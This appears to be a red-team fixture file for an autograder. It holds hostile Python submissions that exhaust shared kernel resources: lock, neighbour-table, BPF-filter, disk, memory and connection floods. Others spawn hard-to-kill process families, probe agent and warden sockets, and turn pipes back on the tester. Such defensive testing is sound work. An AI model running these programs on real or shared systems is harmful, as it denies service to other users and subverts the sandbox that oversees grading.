"""Hostile submissions that turn to the kernel: to what it counts for nobody, or for all namespaces together.

Each is what was tried against the grader. `grader audit redteam` grades them, too.
"""

from __future__ import annotations

from typing import Any

PROGRAMS = ("daytime_client", "daytime_server", "mailbox_client", "mailbox_server")


def everywhere(source: str) -> dict[str, bytes]:
    """The same file for every program."""
    return {f"{name}.py": source.encode() for name in PROGRAMS}


def started(*words: str) -> bytes:
    """A programs.toml that starts the same command for every program."""
    argv = ", ".join(f'"{word}"' for word in words)
    return ("[programs]\n" + "".join(f"{name} = [{argv}]\n" for name in PROGRAMS)).encode()


#: One after the other: what an earlier one has left is met by a later one.
CHECKS = [
    "test_1_daytime_client.py::test_prints_one_answer",
    "test_2_daytime_server.py::test_tells_the_time",
    "test_3_datagrams.py::test_client_asks_and_prints",
]

ASSIGNMENT = "blocking"
#: Name -> `seeks`: what success would look like; `files`: what is handed in; `checks`: those that meet it.
ATTACKS: dict[str, dict[str, Any]] = {}


def put(name: str, seeks: str, files: dict[str, bytes]) -> None:
    """One more."""
    ATTACKS[name] = {"seeks": seeks, "files": files, "checks": CHECKS}


put(
    "locks_that_keep_the_dying",
    "Processes that take minutes to die of SIGKILL, so that no further check begins: with each descriptor that is "
    "closed the kernel looks through all the locks of its file.",
    everywhere("""import fcntl, os, signal, struct, time
file = os.open("held", os.O_RDWR | os.O_CREAT)
last = fcntl.fcntl(file, fcntl.F_DUPFD, 1000)  # closed last
os.close(file)
at, until = 1 << 40, time.monotonic() + 3
try:
    while time.monotonic() < until:
        for _ in range(1000):
            at -= 2
            fcntl.fcntl(last, 37, struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, at, 1, 0))  # F_OFD_SETLK
except OSError:
    pass
for _ in range(900):
    os.open("held", os.O_RDWR)
for _ in range(100):
    if os.fork() == 0:
        break
signal.pause()
"""),
)

put(
    "neighbours_without_end",
    "A table of neighbours that is full: the kernel has one for IPv4 and one for IPv6, for all network namespaces.",
    everywhere("""import itertools, os, socket, time
until, six = time.monotonic() + 4, socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
four = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for number in itertools.count(256 * os.getpid()):
    if time.monotonic() > until:
        break
    for wire in 1, 2, 3:
        for sock, host in ((six, f"fd77:{wire}::{number % 65535:x}"), (four, f"10.77.{wire}.{number % 256}")):
            try:
                sock.sendto(b"", (host, 9))
            except OSError:
                pass
    for sock, host in ((six, f"ff05::{number:x}"), (four, "239.%d.%d.1" % divmod(number % 65536, 256))):
        try:
            sock.sendto(b"", (host, 9))
        except OSError:
            pass
"""),
)

put(
    "filters_without_end",
    "The kernel's memory for compiled filters, which all share: without it nobody else gets one.",
    everywhere("""import ctypes, os, socket, struct, time
code = ctypes.create_string_buffer(struct.pack("HBBI", 0x04, 0, 0, 1) * 4095 + struct.pack("HBBI", 0x06, 0, 0, 0))
option, held = struct.pack("HxxxxxxP", 4096, ctypes.addressof(code)), []
for _ in range(20):
    if os.fork() == 0:
        break
try:
    while True:
        held.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        held[-1].setsockopt(socket.SOL_SOCKET, 26, option)  # SO_ATTACH_FILTER
except OSError:
    pass
time.sleep(3)
"""),
)

put(
    "the_machines_disk",
    "A disk that others wait for: everything written out again and again, what all read forgotten again and again.",
    everywhere("""import ctypes, glob, os, time
libc, ring = ctypes.CDLL(None), ctypes.c_ulong()
libc.syscall(206, 60_000, ctypes.byref(ring))  # io_setup: of 65,536 for the whole machine
for _ in range(8):
    if os.fork() == 0:
        break
until, files = time.monotonic() + 4, [*glob.glob("/usr/lib/python3*/*.py"), *glob.glob("/submission/*")]
while time.monotonic() < until:
    libc.sync()
    for name in files:
        with open(name, "rb") as file:
            os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
            file.read()
            os.fsync(file.fileno())
"""),
)

put(
    "a_family_that_nobody_knows",
    "Processes that are nobody's: siblings, reapers, tracers, first threads that have ended, names that lie.",
    everywhere("""import ctypes, os, signal, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
for turn in range(24):
    if libc.syscall(56, 0x8000 * (turn % 2) | 17, 0, 0, 0, 0) == 0:  # clone, half of them with CLONE_PARENT
        os.setsid()
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        for name in (b"(zombie)", b"a) Z 1 1 1", b"b\\nTgid:\\t1\\n"):
            libc.prctl(15, name, 0, 0, 0)
        if turn % 3 == 0:
            libc.ptrace(0, 0, 0, 0)  # PTRACE_TRACEME
            os.kill(os.getpid(), signal.SIGSTOP)
        elif turn % 3 == 1:
            threading.Thread(target=time.sleep, args=(60,)).start()
            libc.syscall(60, 0)  # this thread alone
        elif os.fork() == 0:
            libc.ptrace(16, os.getppid(), 0, 0)  # PTRACE_ATTACH
        time.sleep(60)
if "server" in sys.argv[0]:
    time.sleep(60)
"""),
)

put(
    "sockets_of_the_agent",
    "An agent or a tester that connects where the submission may not: it is told where.",
    everywhere("""import os, sys, time
places = [name for name in ("/agent/student1.sock", "../agent/student2.sock", "/proc/1/fd/5", "/trusted/warden.sock")]
place = places[os.getpid() % len(places)]
print("listening on " + ("unix:" + place if "unix" in sys.argv[1] else "10.77.1.2:1"), flush=True)
time.sleep(60)
"""),
)

put(
    "pipes_that_turn_round",
    "A tester that waits for, or reads, what it has written itself; an agent that gets signals from a pipe.",
    everywhere("""import fcntl, os, signal, time
for number in (0, 1, 2):
    for command, word in ((fcntl.F_SETOWN, 1), (fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK), (1031, 1 << 20)):
        try:
            fcntl.fcntl(number, command, word)
        except OSError:
            pass
ends = [os.open(f"/proc/self/fd/{number}", os.O_RDWR) for number in (0, 1, 2)]
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
until = time.monotonic() + 3
while time.monotonic() < until:
    for end in ends:
        try:
            os.write(end, b"listening on 0.0.0.0:1\\r\\n" * 100)
            os.splice(end, ends[1], 65536)
        except OSError:
            pass
time.sleep(60)
"""),
)

put(
    "connections_that_linger",
    "A node that takes too long to be made fresh: a hundred thousand connections over its loopback have just ended.",
    everywhere("""import os, resource, socket, struct, time
resource.setrlimit(resource.RLIMIT_NOFILE, (1024, 1024))
me = next((number for number in range(1, 12) if os.fork() == 0), 0)
until, server = time.monotonic() + 4, socket.create_server((f"127.9.{me}.1", 0), backlog=64)
while time.monotonic() < until:
    for last in range(1, 250):
        try:
            s = socket.socket()
            s.bind((f"127.8.{me}.{last}", 0))
            s.connect(server.getsockname())
            other, _ = server.accept()
            s.close()
            other.close()
        except OSError:
            time.sleep(0.001)
"""),
)

put(
    "almost_out_of_memory",
    "An agent without a page of its own: memory is full to the last megabyte, and what is read pushes it out.",
    everywhere("""import glob, mmap, os, sys, time
held = mmap.mmap(-1, 262 << 20)
for _ in range(8):
    if os.fork() == 0:
        break
until, files = time.monotonic() + 6, [*glob.glob("/usr/lib/python3*/*.py"), *glob.glob("/usr/lib/*/*.so*")]
for at in range(0, 244 << 20, 4096):
    held[at] = 1
while time.monotonic() < until:
    for name in files:
        with open(name, "rb") as file:
            while file.read(1 << 20):
                pass
"""),
)
